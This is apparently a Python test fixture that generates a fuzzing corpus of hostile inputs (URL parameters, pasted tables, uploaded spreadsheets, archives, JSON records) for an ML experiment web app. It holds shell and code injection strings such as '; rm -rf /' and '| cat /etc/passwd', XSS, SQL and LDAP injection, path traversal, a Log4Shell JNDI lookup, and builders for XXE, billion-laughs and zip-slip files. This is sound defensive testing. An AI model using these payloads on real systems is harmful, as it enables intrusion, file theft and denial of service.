"""A corpus of hostile inputs: texts for every place that takes text, and files."""

import io
import json
import zipfile
from collections.abc import Iterator
from urllib.parse import parse_qs

TEXTS = (
    # Code
    "__import__('os').system('id')",
    "eval('1')",
    "exec('import os')",
    "open('/etc/passwd').read()",
    "x.__class__.__mro__[1].__subclasses__()",
    "().__class__.__bases__[0]",
    "lambda: 0",
    "globals()",
    "[c for c in ().__class__.__base__.__subclasses__()]",
    "getattr(x, '__dict__')",
    "x.tofile('/tmp/a')",
    "f'{x.__class__}'",
    "{{7*7}}",
    "${jndi:ldap://a.example/a}",
    "#{7*7}",
    "<%= 7*7 %>",
    "`id`",
    "$(id)",
    "; rm -rf /",
    "| cat /etc/passwd",
    "&& id",
    "x if open('a') else y",
    "(yield)",
    "await x",
    "x := 1",
    "import os",
    "print(x)",
    "vars()",
    "x@y",
    "x[0]",
    "x.real",
    "*x",
    "**x",
    "x; y",
    "x\ny",
    "\\x41",
    # Numbers that are none, or take long
    "nan",
    "inf",
    "-inf",
    "1e999",
    "-1e999",
    "1e-999",
    "9**9**9**9",
    "2**2**2**2**2**2",
    "10**10**10",
    "x**9999999",
    "9" * 4000,
    "0" * 4000,
    "1_000",
    "\u0663",
    "\uff11\uff12",
    "0x10",
    "1e",
    "--1",
    "+-+-1",
    "1e+",
    ".",
    "",
    " ",
    "1" + "0" * 400,
    "1e308*1e308",
    "exp(exp(exp(exp(9))))",
    "1/0",
    "0**-1",
    "sqrt(-1)",
    "log(0)",
    "(" * 3000,
    "x" + ")" * 3000,
    "((((((((((x))))))))))" * 50,
    "-" * 3000 + "x",
    "x+" * 2000 + "x",
    # Markup
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "'\"><b>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[a](javascript:alert(1))",
    "![a](https://evil.example/a.png)",
    "https://evil.example",
    "www.evil.example",
    "me@evil.example",
    "<!--",
    "]]>",
    "&lt;script&gt;",
    "<iframe src=//evil.example>",
    "\\href{javascript:alert(1)}{a}",
    "$\\input{/etc/passwd}$",
    ":material/bolt:",
    ":red[a]",
    "<style>*{display:none}</style>",
    "@import 'a'",
    # Paths, headers, queries
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\",
    "~root",
    "%2e%2e%2f",
    "a\r\nSet-Cookie: a=b",
    "\0",
    "a\0b",
    "' OR 1=1 --",
    '"; DROP TABLE a; --',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    '{"$gt": ""}',
    "*)(uid=*))(|(uid=*",
    # Signs that are none, or look like others
    "\u202eabc",
    "\u2028",
    "\ufeff",
    "\ud83d\ude00",
    "\u0000\u0001",
    "a\u0300" * 500,
    "ﷺ" * 300,
    "é" * 3000,
    "İ",
    "\u017f",
    "\u200b",
    "😀" * 500,
    "x\u200by",
    # The link's own signs
    "~",
    "~~",
    "~" * 3000,
    "a~b~c~d",
    "line~n_samples~1e9",
    "line~n_samples~99999999999999999999",
    "line~n_samples~10000~n_samples~10000",
    "line~__class__~1",
    "sgd~lr~nan",
    "sgd~lr~inf",
    "none",
    "all",
    "table~numbers~~x~y~~1~nan~~2~5",
    "table~bring~9999999999~9999999999~aa~y",
    "table~" + "1~" * 3000,
    "table~classes" + "~a" * 2000,
    "table~numbers~~" + "x~" * 200 + "y",
    "expression~text~__import__",
    "expression~text~" + "x*" * 1500 + "y",
    "mlp~hidden~99999",
    "batch_size~-1",
    "zero~zero",
)
"""What may be written where a text, a number or a key is asked for."""

PLACES = (
    "data={}",
    "model={}",
    "features={}",
    "start={}",
    "run={}",
    "epochs={}",
    "surface={}",
    "tol={}",
    "surface=expression~text~{}",
    "run=sgd~lr~{}~~constant~warmup~0~~",
    "data=line~noise~{}",
    "v={}",
)
"""Where in a link it may stand."""

WHOLE = (
    "&".join(["run=sgd~lr~.1~~constant~warmup~0~~"] * 200),
    "&".join(f"a{i}=1" for i in range(900)),
    "data=digits&features=sextic",
    "data=digits&features=quadratic&model=softmax",
    "data=moons~n_samples~10000&model=softmax&features=sextic&test_size=0.9&tol=1e-9&n_seeds=50",
    "data=spirals~n_samples~10000&features=sextic",
    "data=line&data=line",
    "epochs=100000&n_seeds=50",
    "start=" + "~".join(["1e9"] * 1000),
    "data=breast_cancer&features=sextic",
    "surface=rosenbrock&model=mlp",
    "data=line&surface=bowl&run=",
    "data=table~numbers~~x~y~~" + "~~".join(["1~2"] * 1500),
)


def links() -> Iterator[dict[str, list[str]]]:
    """Yield the parameters of hostile links."""
    for place in PLACES:
        name, _, value = place.partition("=")
        yield from ({name: [value.replace("{}", text)]} for text in TEXTS)
    yield from (parse_qs(query, keep_blank_values=True) for query in WHOLE)


def pastes() -> Iterator[str]:
    """Yield hostile tables as text."""
    yield from TEXTS
    yield from (f"x,y\n1,2\n{text},3\n4,5" for text in TEXTS)
    yield from (f"x,{text}\n1,2\n3,4\n5,6" for text in TEXTS)
    yield from (
        "x," * 10_000,
        "x,y\n" + '"' * 5000,
        "\n" * 50_000,
        "a,b\n" + "1,2\n" * 3 + "1" * 10**6,
    )


def files() -> Iterator[bytes]:
    """Yield hostile files: no text, no spreadsheets, bombs."""
    yield from (text.encode("utf-8", "replace") for text in TEXTS)
    yield from (b"\xff\xfe" + b"\0" * 999, b"\x80" * 999, b"PK\x03\x04", b"PK\x03\x04" + b"a" * 999)
    yield from (
        b"\x89PNG\r\n",
        b"%PDF-1.7",
        b"MZ",
        b"\x1f\x8b\x08",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    )
    yield packed({"xl/worksheets/sheet1.xml": b"0" * 30_000_000})
    yield packed({"../../evil.txt": b"a"})
    names = ["a", *(f"a{i}" for i in range(9))]
    doubled = zip(names[1:], names, strict=False)
    entities = "".join(f'<!ENTITY {name} "{f"&{of};" * 10}">' for name, of in doubled)
    yield workbook(f'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">{entities}]>', "&a8;")
    yield workbook('<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;")
    yield workbook('<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">', "1")
    yield workbook('<?xml version="1.0" encoding="UTF-7"?>', "1")
    yield packed({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"})
    yield encrypted(workbook("", "1"))
    yield workbook("", "1").replace(b"\x08\x00", b"\x0e\x00")  # packed otherwise, it says
    yield from (b"PAR1" + b"\0" * 200 + b"PAR1", b"ARROW1\0\0" + b"\xff" * 400)
    yield b"SQLite format 3\0" + b"\0" * 100


def packed(parts: dict[str, bytes]) -> bytes:
    """Return a zip file of these parts."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return data.getvalue()


def encrypted(data: bytes) -> bytes:
    """Return a zip file whose parts say that they need a password."""
    whole = bytearray(data)
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(signature)
        while place >= 0:
            whole[place + flags] |= 1
            place = data.find(signature, place + 1)
    return bytes(whole)


def workbook(prologue: str, cell: str) -> bytes:
    """Return a spreadsheet whose one sheet has a prologue and a cell."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    ends = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    types = "http://schemas.openxmlformats.org/package/2006/content-types"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    near = "http://schemas.openxmlformats.org/package/2006/relationships"
    texts = {
        "[Content_Types].xml": f'<Types xmlns="{types}"><Override PartName="/xl/workbook.xml" '
        f'ContentType="{kind}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" '
        f'ContentType="{kind}.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{near}"><Relationship Id="a" '
        f'Type="{ends}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{ends}"><sheets><sheet name="a" '
        'sheetId="1" r:id="a"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{near}"><Relationship Id="a" '
        f'Type="{ends}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'{prologue}<worksheet xmlns="{main}"><sheetData><row r="1">'
        f'<c r="A1" t="str"><v>{cell}</v></c><c r="B1"><v>1</v></c></row></sheetData></worksheet>',
    }
    return packed({name: text.encode() for name, text in texts.items()})


def records() -> Iterator[bytes]:
    """Yield hostile files of experiments."""
    yield from (json.dumps(text).encode() for text in TEXTS)
    yield from (json.dumps({"link": text}).encode() for text in TEXTS)
    yield from (
        b"[" * 100_000,
        b'{"a":' * 100_000,
        b"\xff\xfe\x00",
        b"null",
        b"9" * 5000,
        b"-",
        b"{",
    )
